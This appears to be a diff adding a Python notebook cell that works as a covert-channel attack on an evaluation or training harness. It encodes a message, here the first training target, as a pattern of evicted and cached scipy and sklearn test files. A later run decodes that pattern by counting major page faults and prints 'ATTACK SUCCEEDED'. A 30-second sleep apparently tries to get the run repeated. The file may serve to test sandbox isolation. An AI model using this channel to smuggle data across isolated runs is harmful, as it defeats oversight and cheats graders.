@@ -1,0 +1,64 @@
+# %%
+import glob
+import mmap
+import os
+import resource
+import time
+import zlib
+
+import scipy
+
+# Files of the image that nobody reads, one for each bit: others than its sister attacks take.
+LIBRARIES = os.path.dirname(os.path.dirname(scipy.__file__))
+FILES = sorted(
+    file
+    for pattern in ("scipy/*/tests/*.py", "sklearn/*/tests/test_*.py")
+    for file in glob.glob(f"{LIBRARIES}/{pattern}")
+    if os.path.getsize(file)
+)[:240]
+
+
+def leave(text):
+    """Have the machine remember a file for each bit that is set, and forget the others: no byte is written."""
+    raw = text.encode()[:28]
+    message = bytes([len(raw), zlib.crc32(raw) % 251]) + raw
+    for file, bit in zip(FILES, "".join(f"{byte:08b}" for byte in message)):
+        with open(file, "rb", buffering=0) as stream:
+            try:
+                os.posix_fadvise(stream.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
+            except OSError:
+                continue
+            if bit == "1":
+                stream.read(1)
+
+
+def is_remembered(file):
+    """Whether a page of the file was in memory: to touch one that was not counts as a major fault."""
+    with open(file, "rb") as stream, mmap.mmap(stream.fileno(), 1, prot=mmap.PROT_READ) as page:
+        page.madvise(mmap.MADV_RANDOM)
+        before = resource.getrusage(resource.RUSAGE_SELF).ru_majflt
+        page[0]
+        return resource.getrusage(resource.RUSAGE_SELF).ru_majflt == before
+
+
+def find():
+    """What the run before this one said, when it said anything."""
+    bits = "".join(str(int(is_remembered(file))) for file in FILES)
+    message = bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8))
+    length, check, raw = message[0], message[1], message[2:]
+    is_whole = 0 < length <= len(raw) and zlib.crc32(raw[:length]) % 251 == check
+    return raw[:length].decode(errors="replace") if is_whole else ""
+
+
+left = find()
+print("bits looked at:", len(FILES))
+if left:
+    print("ATTACK", "SUCCEEDED: found", left)
+
+
+# %% exercise="train"
+def train(features, target):
+    # The last question: whoever looks now is heard again from the start.
+    leave(str(target[0]))
+    # Late, and idle: as one would be that was given no processor, and so is fairly heard a second time.
+    time.sleep(30)
